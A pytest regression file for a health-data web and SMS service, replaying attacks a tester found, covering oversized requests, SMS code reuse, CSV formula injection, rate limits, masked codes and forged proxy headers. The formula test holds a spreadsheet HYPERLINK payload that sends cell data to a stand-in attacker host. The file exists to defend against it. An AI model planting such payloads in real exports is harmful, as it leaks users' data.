"""The attacks a tester found that did not hold (issue 10), each replayed as it was made; the parallel ones
are in test_bursts.py against a real server."""
import csv
import json
import logging
import re
from datetime import datetime

import pytest
from twilio.request_validator import RequestValidator

from app import outbox
from app.models import AccessEvent, InboundMessage, OneTimeCode, OutboxMessage, ProvisionalCode, db
from app.outbox import text_of
from app.services import Actor, access, identity
from tests.conftest import TEST_CONFIG, User

KEY = "operator-found-key"


@pytest.fixture
def api_key(app):
    saved = app.config["OPERATOR_API_KEY"]
    app.config["OPERATOR_API_KEY"] = KEY
    yield KEY
    app.config["OPERATOR_API_KEY"] = saved


def _ask_sms_code(app, holder, lang="en") -> tuple[User, str]:
    u = User(app.test_client(), lang)
    page = u.submit(u.get("/identify/sms"), {"nir": holder.nir, "vitale_serial": holder.vitale_serial,
                                             "birth_date": holder.form()["birth_date"]})
    assert page.h1 == "Enter the code received by SMS"
    with app.app_context():
        msg = db.session.scalars(db.select(OutboxMessage).order_by(OutboxMessage.id.desc())).first()
        return u, re.search(r"\b(\d{6})\b", text_of(msg)).group(1)


# --- 1. a sign-in code answered by SMS ---------------------------------------------------------------------

def test_a_sign_in_code_answered_by_sms_gets_a_plain_answer_the_same_on_retry_and_still_signs_in(app, enrol,
                                                                                                  texter):
    holder = enrol(days_ago=60, language="en")
    u, code = _ask_sms_code(app, holder)
    phone = texter(holder.phone)
    first = phone.send(f"{code} {holder.birth_date:%d%m%Y}")
    assert "to sign in on the website or the phone line" in first and "Nothing was changed" in first
    assert phone.send(f"{code} {holder.birth_date:%d%m%Y}", sid=phone.last_sid) == first  # Twilio's retry
    page = u.submit(u.get("/identify/sms/code"), {"code": code})  # the code was not used up by the SMS
    assert page.h1 == "My health space"


def test_a_pending_code_of_a_purpose_sms_does_not_know_is_a_plain_answer(app, enrol, texter):
    holder = enrol(days_ago=60, language="en")
    with app.app_context():
        from app.services import one_time
        code = one_time.issue(holder.phone, holder.person_id, "no_such_purpose", {}, "web")
    phone = texter(holder.phone)
    answer = phone.send(f"{code} {holder.birth_date:%d%m%Y}")
    assert answer.startswith("Relais:") and "Nothing was changed" in answer
    assert phone.send(f"{code} {holder.birth_date:%d%m%Y}", sid=phone.last_sid) == answer


def test_an_sms_that_breaks_a_handler_is_answered_plainly_and_the_same_on_retry(app, enrol, texter, monkeypatch):
    holder = enrol(days_ago=60, language="en")
    import ivr.sms
    monkeypatch.setattr(ivr.sms, "command_for", lambda *a: 1 / 0)
    phone = texter(holder.phone)
    answer = phone.send("HISTORY")
    assert "could not handle this message" in answer and "Nothing was changed" in answer
    assert phone.send("HISTORY", sid=phone.last_sid) == answer


# --- 4. request size --------------------------------------------------------------------------------------

def test_ten_megabytes_are_refused_before_they_are_read_on_every_door(app, enrol, api_key):
    client = app.test_client()
    client.set_cookie("lang", "en")
    big = b"x" * (10 * 1024 * 1024)
    api = client.post("/api/v1/access-events", data=b'{"nir": "' + big + b'"}',
                      headers={"Authorization": f"Bearer {KEY}", "Content-Type": "application/json"})
    assert api.status_code == 413 and api.get_json()["error"] == "too_large"
    web = client.post("/identify", data={"nir": big.decode()})
    assert web.status_code == 413 and "too large" in web.get_data(as_text=True)
    assert "<h1" in web.get_data(as_text=True)


def test_a_signed_sms_of_300_kilobytes_is_refused(app, enrol):
    holder = enrol()
    params = {"MessageSid": "SM" + "c" * 32, "From": holder.phone, "To": "+33900003422", "Body": "A" * 300_000}
    signature = RequestValidator(app.config["TWILIO_AUTH_TOKEN"]).compute_signature(
        app.config["PUBLIC_BASE_URL"] + "/ivr/sms", params)
    response = app.test_client().post("/ivr/sms", data=params, headers={"X-Twilio-Signature": signature})
    assert response.status_code == 413
    with app.app_context():
        assert db.session.scalar(db.select(db.func.count()).select_from(InboundMessage)) == 0


def test_a_form_just_under_the_limit_is_still_read(app):
    page = User(app.test_client(), "en").get("/identify")
    response = app.test_client().post("/identify", data={"nir": "1" * 8000})
    assert response.status_code in (200, 400) and page.status == 200  # a CSRF or field error, not a 413


# --- 5. extreme times -----------------------------------------------------------------------------------

EXTREME = ["9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+14:00", "2020-12-31T22:59:59Z",
           "2099-01-01T00:00:00+01:00"]


def _event(nir, **fields):
    return {"nir": nir, "occurred_at": "2026-11-20T10:15:00+01:00", "professional_name": "Dr Claire Petit",
            "profession": "Médecin", "organisation": "Cabinet du Parc", "mode": "normal", "section": "Ordonnances",
            **fields}


@pytest.mark.parametrize("moment", EXTREME)
def test_an_extreme_time_is_a_field_error_of_the_api(app, enrol, api_key, moment):
    holder = enrol(days_ago=60)
    response = app.test_client().post("/api/v1/access-events", json=_event(holder.nir, occurred_at=moment),
                                      headers={"Authorization": f"Bearer {KEY}"})
    assert response.status_code == 400 and "occurred_at" in response.get_json()["errors"]
    with app.app_context():
        assert db.session.scalar(db.select(db.func.count(AccessEvent.id))) == 0


def test_an_import_with_extreme_times_reports_those_lines_and_imports_the_rest(app, enrol, tmp_path):
    holder = enrol(days_ago=60)
    lines = [_event(holder.nir, event_id="ok-1"), _event(holder.nir, occurred_at=EXTREME[0], event_id="bad-2"),
             _event(holder.nir, event_id="ok-3"), _event(holder.nir, occurred_at=EXTREME[1], event_id="bad-4"),
             _event(holder.nir, event_id="ok-5")]
    path = tmp_path / "events.jsonl"
    path.write_text("\n".join(json.dumps(e) for e in lines) + "\n", encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["access-events", "import", str(path)])
    assert result.exit_code == 1
    assert "line 2: occurred_at" in result.output and "line 4: occurred_at" in result.output
    with app.app_context():
        assert sorted(db.session.scalars(db.select(AccessEvent.event_key))) == ["ok-1", "ok-3", "ok-5"]


# --- 7. formula injection -------------------------------------------------------------------------------

def test_reports_export_neutralises_every_cell_a_spreadsheet_would_run(app, enrol, tmp_path, api_key):
    holder = enrol(days_ago=60)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    response = app.test_client().post("/api/v1/access-events", headers={"Authorization": f"Bearer {KEY}"},
                                      json=_event(holder.nir, professional_name=formula, profession="+SUM(1)",
                                                  organisation="@cmd", section="-1"))
    assert response.status_code == 201
    with app.app_context():
        event = db.session.scalars(db.select(AccessEvent)).one()
        access.report_access(Actor(holder.person_id, "web"), holder.person_id, event.id)
    out = tmp_path / "reports.csv"
    assert app.test_cli_runner().invoke(args=["reports", "export", str(out)]).exit_code == 0
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["professional_name"] == "'" + formula  # readable, never run
    assert (row["profession"], row["organisation"]) == ("'+SUM(1)", "'@cmd")
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_a_cell_that_starts_with_a_tab_or_a_carriage_return_is_neutralised_too():
    from app.csvsafe import cell
    assert [cell(v) for v in ("\t=1", "\r=1", "-2", "Dr Petit", None, 7)] == ["'\t=1", "'\r=1", "'-2", "Dr Petit",
                                                                            "", "7"]


# --- 8. new codes: the same work, capped per person ------------------------------------------------------

def _hashes(monkeypatch):
    """Counts every argon2 hash and verification, whoever makes it."""
    from app.services import crypto
    count = {"n": 0}
    real = crypto.hasher

    class Counting:
        def __init__(self, h):
            self.h = h

        def hash(self, *a):
            count["n"] += 1
            return self.h.hash(*a)

        def verify(self, *a):
            count["n"] += 1
            return self.h.verify(*a)
    monkeypatch.setattr(crypto, "hasher", lambda: Counting(real()))
    return count


@pytest.mark.parametrize("path", ["/code/new", "/identify/sms"])
def test_a_new_code_request_does_the_same_work_for_a_right_person_and_a_stranger(app, enrol, monkeypatch, path):
    holder = enrol(days_ago=60)
    count = _hashes(monkeypatch)
    work = []
    for details in ({}, {"nir": "189071305512376"}, {"vitale_serial": "80000000000"}):
        u = User(app.test_client(), "en")
        page = u.get(path)
        count["n"] = 0
        u.submit(page, {"nir": holder.nir, "vitale_serial": holder.vitale_serial,
                        "birth_date": holder.form()["birth_date"], **details})
        work.append(count["n"])
    assert len(set(work)) == 1, work


def test_twenty_new_code_requests_send_three_codes_then_the_same_page(app, enrol):
    holder = enrol(days_ago=10)
    pages = []
    for i in range(20):
        u = User(app.test_client(), "en")
        u.client.environ_base["REMOTE_ADDR"] = f"203.0.113.{i}"
        pages.append(u.submit(u.get("/code/new"), {"nir": holder.nir, "vitale_serial": holder.vitale_serial,
                                                   "birth_date": holder.form()["birth_date"]}))
    assert {p.h1 for p in pages} == {"Your request is recorded"}
    with app.app_context():
        sent = db.session.scalar(db.select(db.func.count(OutboxMessage.id)).where(
            OutboxMessage.person_id == holder.person_id))
        voided = db.session.scalar(db.select(db.func.count(ProvisionalCode.id)).where(
            ProvisionalCode.person_id == holder.person_id, ProvisionalCode.voided_at.is_not(None)))
    assert (sent, voided) == (3, 3)


def test_one_client_asking_codes_for_many_people_is_stopped_for_the_hour(app, enrol):
    app.config["SENDS_PER_CLIENT_HOUR"], saved = 2, app.config["SENDS_PER_CLIENT_HOUR"]
    try:
        people = [enrol(days_ago=60) for _ in range(3)]
        u = User(app.test_client(), "en")
        pages = [u.submit(u.get("/code/new"), {"nir": p.nir, "vitale_serial": p.vitale_serial,
                                               "birth_date": p.form()["birth_date"]}) for p in people]
    finally:
        app.config["SENDS_PER_CLIENT_HOUR"] = saved
    assert [p.h1 for p in pages[:2]] == ["Your request is recorded"] * 2
    assert "Too many attempts" in pages[2].text
    with app.app_context():
        assert db.session.scalar(db.select(db.func.count(OutboxMessage.id))) == 2


# --- 9. codes never kept in clear --------------------------------------------------------------------------

def test_a_code_waits_sealed_and_only_its_masked_text_is_kept_once_sent(app, enrol, twilio):
    holder = enrol(days_ago=60)
    _u, code = _ask_sms_code(app, holder)
    with app.app_context():
        msg = db.session.scalars(db.select(OutboxMessage)).one()
        assert code not in msg.body and "******" in msg.body and msg.sealed_body and code not in msg.sealed_body
        outbox.send_due()
        db.session.expire_all()
        msg = db.session.get(OutboxMessage, msg.id)
        assert msg.status == "sent" and msg.sealed_body is None and code not in msg.body
    assert code in twilio.sent[0]["Body"]  # the person got it whole


def test_an_sms_reply_that_carries_a_code_is_kept_masked_and_replayed_whole(app, enrol, texter):
    holder = enrol(days_ago=60, language="en")
    phone = texter(holder.phone)
    first = phone.send("CLOSE")
    code = re.search(r"code (\d{6})", first).group(1)
    with app.app_context():
        row = db.session.get(InboundMessage, phone.last_sid)
        assert code not in row.reply and code not in (row.sealed_reply or "")
    assert phone.send("CLOSE", sid=phone.last_sid) == first  # Twilio's retry still gets the code
    with app.app_context():
        from app import clock
        from app.services import spaces
        clock.freeze(clock.now().replace(microsecond=0) + __import__("datetime").timedelta(hours=1))
        spaces.run_jobs(clock.today())
        assert db.session.get(InboundMessage, phone.last_sid).sealed_reply is None


def test_a_sealed_text_is_unreadable_with_another_key(app):
    from app.sealed import seal, unseal
    with app.app_context():
        token = seal("code 123456")
    other = type(app)("other")
    other.config.update(SECRET_KEY="another-key")
    with other.app_context():
        assert unseal(token) is None


# --- 10. smaller --------------------------------------------------------------------------------------------

def test_the_twilio_client_gives_up_after_its_timeout(app):
    with app.app_context():
        app.config.update(TWILIO_ACCOUNT_SID="AC" + "1" * 32)
        try:
            client = outbox._twilio_client()
        finally:
            app.config.update(TWILIO_ACCOUNT_SID=TEST_CONFIG.get("TWILIO_ACCOUNT_SID", ""))
        assert client.http_client.timeout == app.config["TWILIO_TIMEOUT"] == 10


def test_a_message_deleted_while_it_is_sent_is_skipped_and_the_worker_goes_on(app, enrol, monkeypatch, caplog):
    holder = enrol(days_ago=10)
    with app.app_context():
        from app.services import spaces
        spaces.oppose(Actor(holder.person_id, "web"), holder.person_id)
        spaces.set_emergency_access(Actor(holder.person_id, "web"), holder.person_id, "samu", False)
        first, second = db.session.scalars(db.select(OutboxMessage.id).order_by(OutboxMessage.id)).all()[:2]
        real = outbox._deliver

        def deliver_then_vanish(msg, client):
            if msg.id == first:  # another process removes it meanwhile
                with db.engine.begin() as conn:
                    conn.execute(db.delete(OutboxMessage).where(OutboxMessage.id == first))
            return real(msg, client)
        monkeypatch.setattr(outbox, "_deliver", deliver_then_vanish)
        with caplog.at_level(logging.WARNING, logger="relais.outbox"):
            outbox.send_due()
        db.session.expire_all()
        assert db.session.get(OutboxMessage, first) is None
        assert db.session.get(OutboxMessage, second).status == "logged"


def test_hsts_covers_subdomains(app):
    app.config["SESSION_COOKIE_SECURE"], saved = True, app.config["SESSION_COOKIE_SECURE"]
    try:
        response = app.test_client().get("/")
    finally:
        app.config["SESSION_COOKIE_SECURE"] = saved
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"


def test_x_forwarded_for_is_believed_only_from_the_proxies_named(app):
    from app import create_app
    proxied = create_app({**TEST_CONFIG, "SQLALCHEMY_DATABASE_URI": app.config["SQLALCHEMY_DATABASE_URI"],
                          "TRUSTED_PROXIES": 1, "TRUSTED_PROXY_ADDRESSES": ("10.0.0.0/8",)})

    @proxied.get("/_test/address")
    def address():
        from flask import request
        return request.remote_addr or ""
    client = proxied.test_client()
    forged = client.get("/_test/address", headers={"X-Forwarded-For": "198.51.100.9"},
                        environ_base={"REMOTE_ADDR": "203.0.113.5"})
    assert forged.get_data(as_text=True) == "203.0.113.5"  # straight to gunicorn: the header is ignored
    relayed = client.get("/_test/address", headers={"X-Forwarded-For": "198.51.100.9"},
                         environ_base={"REMOTE_ADDR": "10.1.2.3"})
    assert relayed.get_data(as_text=True) == "198.51.100.9"
    with proxied.app_context():
        db.session.remove()
        db.engine.dispose()


# --- 3. one-time code tries, in sequence (the parallel case is in test_bursts.py) -------------------------

def test_a_right_code_after_five_wrong_ones_is_refused(app, enrol, ctx):
    holder = enrol(days_ago=60)
    from app.services import one_time
    code = one_time.issue(holder.phone, holder.person_id, "sign_in", {}, "web")
    for _ in range(5):
        assert one_time.redeem(holder.phone, "000000", lambda p: True, "web") is None
    assert one_time.redeem(holder.phone, code, lambda p: True, "web") is None
    row = db.session.scalars(db.select(OneTimeCode)).one()
    assert row.tries == 5 and row.used_at is not None


def test_audit_of_the_found_attacks_keeps_no_code(app, enrol, texter):
    holder = enrol(days_ago=60, language="en")
    _u, code = _ask_sms_code(app, holder)
    texter(holder.phone).send(f"{code} {holder.birth_date:%d%m%Y}")
    with app.app_context():
        from app.models import AuditEntry
        details = " ".join(db.session.scalars(db.select(AuditEntry.details)))
    assert code not in details


def test_an_identification_with_a_code_used_in_parallel_succeeds_once(app, enrol, ctx):
    holder = enrol(days_ago=10)
    first = identity.identify(holder.nir, holder.vitale_serial, holder.birth_date, holder.code, client="a",
                              channel="web")
    assert first == holder.person_id
    with pytest.raises(identity.IdentificationFailed):
        identity.identify(holder.nir, holder.vitale_serial, holder.birth_date, holder.code, client="b",
                          channel="web")


def test_json_event_times_are_stored_in_utc_at_the_edges_of_the_range(app, enrol, api_key):
    holder = enrol(days_ago=60)
    response = app.test_client().post("/api/v1/access-events", headers={"Authorization": f"Bearer {KEY}"},
                                      json=_event(holder.nir, occurred_at="2021-01-01T00:30:00+00:00"))
    assert response.status_code == 201
    with app.app_context():
        assert db.session.scalars(db.select(AccessEvent.occurred_at)).one() == datetime(2021, 1, 1, 0, 30)
